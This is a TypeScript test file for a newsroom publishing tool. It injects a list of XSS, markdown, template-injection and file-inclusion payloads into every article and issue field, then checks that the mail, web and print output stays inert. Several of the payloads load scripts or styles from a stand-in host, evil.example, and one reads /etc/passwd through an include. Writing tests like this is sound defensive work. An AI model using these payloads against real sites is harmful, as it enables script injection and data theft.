// What a hostile source may put into an article, in every place an editor can paste it: nothing of it may come alive in
// any edition. The payloads are our own variations on well-known kinds.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { compileIssue } from '../../../src/app/compile-issue.ts'
import { type Newsroom, openNewsroom } from '../../../src/app/open-newsroom.ts'
import { renderPrint } from '../../../src/print/render-print.ts'
import { renderSite } from '../../../src/site/render-site.ts'
import { findActive } from '../../support/active-content.ts'
import { CONFIG, ISSUE, makeNewsroom, type TestNewsroom } from '../../support/newsroom.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example>',
  '<video><source onerror=alert(1)>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  ']]><script>alert(1)</script>',
  '<mj-raw><script>alert(1)</script></mj-raw>',
  '<mj-include path="/etc/passwd" type="html" />',
  '</mj-text><mj-raw><img src=x onerror=alert(1)></mj-raw>',
  '{{{constructor.constructor "return 1"}}}',
  '{{#with this}}{{lookup . "constructor"}}{{/with}}',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](<javascript:alert(1)>)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://example.org/"onmouseover="alert(1))',
  '[x](https://example.org/ "t\\" onclick=alert(1)")',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  ':::pullquote{by="<script>alert(1)</script>"}\n<b onclick=alert(1)>x</b>\n:::',
  '::qr{url="https://example.org/\'><script>" label="<svg onload=alert(1)>"}',
  ':::brief{title="<img src=x onerror=alert(1)>"}\nx\n:::',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>'.replace('\u0000', ''),
  '%%unsubscribe%% {{unsubscribeUrl}}"><script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
  '<isindex type=image src=1 onerror=alert(1)>',
]

let room: TestNewsroom
let newsroom: Newsroom

beforeAll(() => {
  const quoted = (text: string) => JSON.stringify(text.replace(/\n/g, ' '))
  const articles = PAYLOADS.map((payload, at) => {
    const one = quoted(payload)
    const front = [
      `title: ${one}`,
      `id: p${at}`,
      `kicker: ${one}`,
      `deck: ${one}`,
      `byline: [${one}]`,
      `dateline: ${one}`,
      `source: { name: ${one}, date: ${one} }`,
      `signoff: ${one}`,
      `tag: ${one}`,
      `label: ${one}`,
      `person: { name: ${one}, titles: [${one}] }`,
      `quote: ${one}`,
      `editorsNote: ${one}`,
      `conclusion: ${one}`,
    ]
    return [`issues/x/articles/p${at}.md`, `---\n${front.join('\n')}\n---\n前文。\n\n${payload}\n\n后文。\n`] as const
  })
  const styles = ['list', 'briefs', 'cards', 'quotes', 'profiles', 'feature']
  const sections = styles.map((style, at) => {
    const own = articles
      .filter((_, index) => index % styles.length === at)
      .map(([path]) => path.replace('issues/x/', ''))
    return `  - title: ${quoted(PAYLOADS[at] ?? '')}\n    style: ${style}\n    articles: [${own.join(', ')}]`
  })
  const extra = `subject: ${quoted(PAYLOADS[0] ?? '')}\npreheader: ${quoted(PAYLOADS[5] ?? '')}\nmailMode: full\nnotices: [ { kind: x, title: ${quoted(PAYLOADS[0] ?? '')}, text: ${quoted(PAYLOADS[5] ?? '')} } ]\nadverts: [ { advertiser: ${quoted(PAYLOADS[0] ?? '')}, subject: ${quoted(PAYLOADS[6] ?? '')} } ]\n`
  const manifest = `${ISSUE.split('sections:')[0]}sections:\n${sections.join('\n')}\n${extra}`
  const config = CONFIG.replace('name: 示例机电信息\n  publishers', `name: ${quoted(PAYLOADS[2] ?? '')}\n  publishers`)
  room = makeNewsroom({ 'config.yml': config, 'issues/x/issue.yml': manifest, ...Object.fromEntries(articles) })
  const opened = openNewsroom(room.root).value
  if (!opened) throw new Error('the newsroom of this test is wrong')
  newsroom = opened
})
afterAll(() => room.remove())

describe.each(['journal', 'bulletin', 'magazine', 'newspaper'] as const)('in the layout %s', (layout) => {
  test('nothing in any payload comes alive in mail, web or print', async () => {
    const config = { ...newsroom.config, publication: { ...newsroom.config.publication, layout } }
    const { value: compiled, diagnostics } = await compileIssue({ ...newsroom, config }, 'x')
    if (!compiled) throw new Error(JSON.stringify(diagnostics.filter((one) => one.severity === 'error').slice(0, 3)))
    const { issue, theme, email } = compiled
    const { templates } = newsroom
    expect(findActive(email.html)).toEqual([])
    for (const [path, page] of renderSite(issue, { config, theme, templates }).files) {
      if (path.endsWith('.html')) expect([path, findActive(page)]).toEqual([path, []])
    }
    expect(findActive(renderPrint(issue, { theme, templates }).html)).toEqual([])
  })
})

test('the finder itself sees what it must', () => {
  for (const alive of [
    '<script>1</script>',
    '<p onclick="x">',
    '<a href=" java\tscript:x">',
    '<iframe>',
    '<img src=x onerror=1>',
    '<meta http-equiv=Refresh content=0>',
    '<p style="width:expression(1)">',
  ]) {
    expect(findActive(`<body>${alive}</body>`)).not.toEqual([])
  }
})
